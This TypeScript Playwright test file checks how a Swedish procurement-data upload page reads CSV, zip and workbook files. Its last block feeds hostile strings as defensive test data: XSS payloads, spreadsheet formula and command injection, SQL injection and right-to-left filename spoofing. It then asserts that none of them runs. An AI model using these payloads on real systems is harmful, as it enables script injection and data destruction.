import type { Page } from 'playwright';
import { describe, expect, test } from 'vitest';
import { swedish } from '../lib/intake/guard/numbers.ts';
import { workbookOf, zipOf } from '../lib/intake/packed-files.ts';
import { registerSavedAgain } from '../lib/intake/register-saved-again.ts';
import { hasSharedData } from '../shared-data.ts';
import {
	type Given,
	header,
	isSound,
	openExplore,
	pick,
	settled,
	share,
	shown,
	sticksOut,
	three,
} from './explore-page.ts';

const file = (name: string, content: string | Uint8Array) => ({
	name,
	mimeType: 'application/octet-stream',
	buffer: Buffer.from(content as string),
});

async function drop(given: Given): Promise<Page> {
	const page = await openExplore();
	await pick(page, given);
	return page;
}

describe('how a file was read', () => {
	test('is shown with its evidence and a preview, and rows that are no data are told', async () => {
		const page = await drop(file('summa.csv', `${three}\r\n\r\nSumma;;;;3`));
		await page.getByText('3 rader lästa = 3 inlästa + 0 avvisade').waitFor();
		expect(await shown(page)).toContain('1 rad är inga data och räknas inte: summarad på rad 6.');
		await page.locator('summary', { hasText: 'Så här lästes filen, och varför' }).click();
		const text = await shown(page);
		expect(text).toContain('Alla tecken i filen är riktiga i UTF-8.');
		expect(text).toContain('5 rubriker känns igen: Upphandlings-ID, Förvaltning');
		await page.getByRole('region', { name: 'De första raderna' }).getByText('Kulturförvaltningen').waitFor();
	});

	test('can be changed by keyboard alone, and the preview follows', async () => {
		const ascii = 'procurement_id;buyer;nature;published_on;clause';
		const page = await drop(file('tre.csv', three.replace(header, ascii)));
		await page.getByText('3 rader lästa = 3 inlästa').waitFor();
		await settled(page);
		await page.locator('summary', { hasText: 'Så här lästes filen' }).focus();
		await page.keyboard.press('Enter');
		await page.keyboard.press('Tab');
		await page.keyboard.type('Windows');
		const preview = page.getByRole('region', { name: 'De första raderna' });
		await preview.getByText('KulturfÃ¶rvaltningen').waitFor();
		await settled(page);
		expect(await page.evaluate('document.activeElement.tagName')).toBe('SELECT');
		await page.getByRole('button', { name: 'Läs som den först lästes' }).press('Enter');
		await preview.getByText('Kulturförvaltningen').waitFor();
	});

	test('names another quote or delimiter that the file has among the choices', async () => {
		const text = three.replaceAll('\r', '').replaceAll(';', '~; ~').replace(/^|$/gm, '~');
		const page = await drop(file('tilde.csv', text));
		await page.getByText('3 rader lästa = 3 inlästa + 0 avvisade').waitFor();
		await page.locator('summary', { hasText: 'Så här lästes filen, och varför' }).click();
		expect(await page.getByLabel('Citattecken').inputValue()).toBe('~');
		expect(await page.getByLabel('Mellan kolumnerna').inputValue()).toBe('; ');
	});

	test('lets the analyst pick a table of several', async () => {
		const other = three.replaceAll('A', 'B').split('\r\n').slice(0, 2).join('\r\n');
		const page = await drop(
			file('allt.zip', zipOf({ 'ett.csv': three, 'två.csv': `${header}\r\n${other.split('\r\n')[1]}` })),
		);
		await page.getByText('3 rader lästa = 3 inlästa').waitFor();
		await page.getByLabel('Filen har flera tabeller.').selectOption('två.csv');
		await page.getByText('1 rad läst = 1 inläst').waitFor();
	});

	test('works for a workbook', async () => {
		const row = (at: number, cells: string[]) =>
			`<row r="${at}">${cells.map((text) => `<c t="inlineStr"><is><t>${text}</t></is></c>`).join('')}</row>`;
		const rows = three.split('\r\n').map((line, i) => row(i + 1, line.split(';')));
		const page = await drop(file('tre.xlsx', workbookOf({ Blad1: rows.join('') })));
		await share(page, '1 av 3 tjänsteupphandlingar');
		await page.getByRole('heading', { name: 'tre.xlsx, blad Blad1' }).waitFor();
		const text = await shown(page);
		expect(text).toContain('Arbetsbok, rubriker på rad 1');
		expect(text).toContain('Källa: tre.xlsx, blad Blad1.');
		await page.getByRole('button', { name: 'Ta bort filen tre.xlsx, blad Blad1' }).click();
		await page.getByText('tre.xlsx, blad Blad1 är borttagen.').waitFor();
	});
});

describe('a file that was refused since its headers were not found', () => {
	const notes = Array.from({ length: 45 }, (_, at) => `Anteckning ${at + 1};om exporten`);
	const long = file('lång.csv', [...notes, three].join('\r\n'));
	const refused = (page: Page) => page.getByText('Ingen rubrik känns igen: Anteckning 1, om exporten.');

	test('is taken in once the analyst points at their row, by keyboard alone', async () => {
		const page = await drop(long);
		await refused(page).waitFor();
		await page.getByRole('region', { name: 'Filens första rader.' }).focus();
		for (let at = 1; at <= 46; at++) await page.keyboard.press('Tab');
		await page.keyboard.press('Enter');
		await share(page, '1 av 3 tjänsteupphandlingar');
		expect(await refused(page).count()).toBe(0);
		await expect.poll(() => page.evaluate('document.activeElement.textContent')).toBe('lång.csv');
		expect(await shown(page)).toContain('rubriker på rad 46');
	});

	test('offers the choices again where the row was not the right one, and loses neither place nor focus', async () => {
		const page = await drop(long);
		const pick = (row: number) => page.getByRole('button', { name: `Läs rad ${row} som rubriker` });
		await pick(3).press('Enter');
		await page.getByText('Ingen rubrik känns igen: Anteckning 3, om exporten.').waitFor();
		await expect.poll(() => page.evaluate('document.activeElement.textContent.trim()')).toBe('Rad 3');
		expect(await pick(3).getAttribute('aria-pressed')).toBe('true');
		await page.getByRole('button', { name: 'Läs som den först lästes' }).click();
		await refused(page).waitFor();
		await page.getByLabel('Rubrikernas rad').fill('46');
		await page.getByLabel('Rubrikernas rad').press('Tab');
		await share(page, '1 av 3 tjänsteupphandlingar');
	});

	test('can be read with another encoding, delimiter or table', async () => {
		const packed = zipOf({ 'ett.csv': 'namn;färg\nkatt;grå', 'två.csv': three.replaceAll(';', '^') });
		const page = await drop(file('allt.zip', packed));
		await page.getByText('allt.zip kunde inte läsas in').waitFor();
		for (const label of ['Teckenkodning', 'Mellan kolumnerna', 'Citattecken', 'Decimaltecken'])
			expect(await page.getByLabel(label, { exact: true }).isVisible()).toBe(true);
		await page.getByLabel('Filen har flera tabeller.').selectOption('två.csv');
		await page.getByRole('cell', { name: 'A1^Parkförvaltningen' }).waitFor();
	});

	test('shows no identity number, e-mail address or phone number', async () => {
		const person = `${swedish.slice(0, 6)}-${swedish.slice(6)}`;
		const rows = `namn;nummer;post\nAnna;${person};anna@example.se\nBo;070-123 45 67;${swedish}`;
		const page = await drop(file('folk.csv', rows));
		await page.getByRole('cell', { name: 'Anna' }).waitFor();
		expect(await page.content()).not.toMatch(/850709|anna@|070-123/);
	});

	test('fits a page that is 1280 or 390 px wide, and every control has a name', async () => {
		const page = await drop(long);
		await refused(page).waitFor();
		await settled(page);
		await isSound(page);
	});
});

describe.skipIf(!hasSharedData)('the register of 2021, saved again', () => {
	test.each(['UTF-16 with tabs', 'inside a zip'])('%s, gives the same figures on the page', async (name) => {
		const page = await drop(
			file(name === 'inside a zip' ? 'register.zip' : 'register.txt', registerSavedAgain()[name]!),
		);
		await page.getByLabel('År', { exact: true }).waitFor();
		await settled(page);
		const text = await shown(page);
		expect(text).toContain('18 421 rader lästa = 18 421 inlästa + 0 avvisade');
		expect(text).toContain(
			'696 av 8 578 tjänsteupphandlingar (8,1 %) hade ett socialt mål. För 7 882 saknas uppgift.',
		);
		expect(text).toContain('6 upphandlingar har okänt upphandlingsslag');
	});
});

/** What reaches beyond the window, unless a region that scrolls holds it. */
const beyond = `[...document.querySelectorAll('body *')].filter((element) => {
	for (let at = element; at; at = at.parentElement) {
		const { overflowX } = getComputedStyle(at);
		if (overflowX === 'auto' || overflowX === 'scroll' || overflowX === 'hidden') return false;
	}
	const { left, width } = element.getBoundingClientRect();
	if (width <= 1) return false;
	return left + Math.max(element.scrollWidth, width) > document.documentElement.clientWidth + 1;
}).map((element) => element.tagName + '.' + element.className + ': ' + element.textContent.slice(0, 40))`;

describe('a file full of naughty strings', () => {
	const naughty = [
		'<script>window.hacked = 1</script>',
		'<img src=x onerror="window.hacked = 2">',
		'"><svg/onload=window.hacked=3>',
		'{{constructor.constructor("window.hacked=4")()}}',
		'=HYPERLINK("http://example.invalid/?x="&A1;"klicka")',
		'@SUM(1+1)*cmd|"/C calc"!A0',
		"'; DROP TABLE contracts; --",
		'\u202egnp.exe \u2066dold\u2069',
		'Z\u0351\u036b\u0343a\u0359\u0312l\u0358\u0338g\u0337\u0321o',
		'å'.repeat(4000),
		'javascript:window.hacked=5',
		'https://example.invalid/x.png',
		'%s%n${7*7}\\u0000\\x00',
	];
	const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
	const rows = naughty.map((text, i) =>
		[
			`N${i}`,
			quoted(text),
			'Tjänster',
			i % 2 ? quoted(text) : '2024-02-01',
			'Ja',
			...naughty.map(quoted),
		].join(';'),
	);
	const text = [[header, ...naughty.map(quoted)].join(';'), ...rows, quoted(naughty[0]!).repeat(3)].join(
		'\n',
	);

	test('runs nothing and breaks no page that is 1280 or 390 px wide', async () => {
		const name = "<img src=x onerror=window.hacked=6>\u202e' OR 1=1 --" + 'ö'.repeat(150) + '.csv';
		const page = await drop(file(name, text));
		await page.getByText('rader lästa').first().waitFor();
		await page.getByLabel('År', { exact: true }).waitFor();
		await settled(page);
		for (const summary of await page.locator('main summary').all()) await summary.click();
		await page.getByRole('region', { name: 'De första raderna' }).waitFor();
		expect(await page.evaluate('window.hacked')).toBeUndefined();
		for (const width of [1280, 390]) {
			await page.setViewportSize({ width, height: 900 });
			expect(await page.evaluate(beyond), `${width} px`).toEqual([]);
			expect(await sticksOut(page), `${width} px`).toBe(0);
		}
		expect(await shown(page)).toContain('<script>window.hacked = 1</script>');
	});
});
